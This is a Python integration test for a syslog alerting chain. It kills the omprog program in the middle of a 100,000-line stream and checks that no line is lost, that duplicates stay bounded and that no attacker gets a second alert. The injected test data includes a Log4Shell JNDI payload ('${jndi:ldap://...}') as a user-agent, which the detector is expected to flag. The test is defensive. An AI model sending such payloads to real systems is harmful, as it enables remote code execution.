"""Killing the real omprog program in the middle of a stream loses no line.

rsyslog restarts the program and sends again what was not confirmed: every line is processed
at least once (the program records each line it confirmed, see recording_omprog.py), and a
line processed twice raises no second alert (the replay guard).
"""

from __future__ import annotations

import os
import re
import signal
import threading
import time
import uuid
from collections import Counter
from pathlib import Path

import harness
import pytest
from conftest import LiveChain, require_lab

from lwsyslog import lab

pytestmark = [pytest.mark.integration, pytest.mark.slow]

TOTAL = 100_000
KILL_AFTER = 25_000
ATTACK_EVERY = 2_500


def _line(run: str, n: int) -> bytes:
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
    if n % ATTACK_EVERY == 0:
        client, agent = f"10.99.{n // ATTACK_EVERY}.1", "${jndi:ldap://198.51.100.9/a}"
    else:
        client, agent = f"192.0.2.{n % 250 + 1}", "Mozilla/5.0"
    return lab.syslog_line(
        f'{client} - - [{stamp}] "GET /item?{run}={n:06d} HTTP/1.1" 200 512 "-" "{agent}"'
    )


class _Counter:
    """Counts lines with ``needle`` in a growing file without re-reading it."""

    def __init__(self, path: Path, needle: bytes) -> None:
        self.path, self.needle = path, needle
        self.offset = self.count = 0

    def __call__(self) -> int:
        if self.path.exists():
            with self.path.open("rb") as handle:
                handle.seek(self.offset)
                chunk = handle.read()
            cut = chunk.rfind(b"\n") + 1
            self.offset += cut
            self.count += chunk[:cut].count(self.needle)
        return self.count


@pytest.mark.parametrize("transactions", [False, True], ids=["per-line", "transactions"])
def test_sigkill_of_the_program_mid_stream_loses_no_line(
    tmp_path_factory: pytest.TempPathFactory,
    pki: harness.Pki,
    journal: lab.JournalNamespace,
    transactions: bool,
) -> None:
    require_lab()
    work = tmp_path_factory.mktemp("kill")
    record = work / "record.jsonl"
    chain = LiveChain(
        work,
        journal,
        pki,
        # Every attacker's alert is counted: no storm summary may fold them.
        program=harness.recorder_command(record, work, "[alerts]\nstorm_max_alerts = 0\n"),
        transactions=transactions,
    )
    run = f"k{uuid.uuid4().hex[:10]}"
    confirmed = _Counter(record, run.encode())
    with chain:
        writer = threading.Thread(
            target=lab.inject, args=(chain.input_port, (_line(run, n) for n in range(TOTAL)))
        )
        writer.start()
        try:
            lab.wait_for(lambda: confirmed() >= KILL_AFTER, 120, f"{KILL_AFTER} lines")
            (victim,) = chain.omprog_pids()
            os.kill(victim, signal.SIGKILL)
            killed_at = confirmed()
            lab.wait_for(
                lambda: chain.omprog_pids() not in ([], [victim]), 30, "rsyslog to restart it"
            )
            lab.wait_for(lambda: confirmed() >= TOTAL, 180, f"{TOTAL} lines at the program")
        finally:
            writer.join()
        time.sleep(1)  # a straggler sent again would show up now

        seen = Counter(re.findall(rb"%s=(\d{6})" % run.encode(), record.read_bytes()))
        raw = chain.raw_dir / lab.WEBHOST_NAME / "apache-access.log"
        in_raw = set(re.findall(rb"%s=(\d{6})" % run.encode(), raw.read_bytes()))
        missing = TOTAL - len(seen)
        duplicates = sum(seen.values()) - len(seen)
        print(
            f"\nkill at {killed_at:,} of {TOTAL:,} lines: {len(seen):,} distinct processed, "
            f"{missing} missing, {duplicates} processed twice; raw file {len(in_raw):,} distinct"
        )
        assert len(in_raw) == TOTAL
        assert missing == 0
        if transactions:
            # The next program processes again what the spool held: the open batch (at most
            # the action queue's dequeue batch of 128 lines), plus what rsyslog sent again.
            assert duplicates <= 2 * 128
        else:
            assert duplicates <= 10  # only what was in flight when the program died

        attackers = {f"10.99.{n // ATTACK_EVERY}.1" for n in range(0, TOTAL, ATTACK_EVERY)}
        alerts = Counter(
            m.group(1)
            for line in chain.messages_lines()
            if (m := re.search(r"log4shell-jndi client=(\S+)", line))
        )
        assert set(alerts) == attackers
        assert max(alerts.values()) == 1, "a line processed twice raised a second alert"
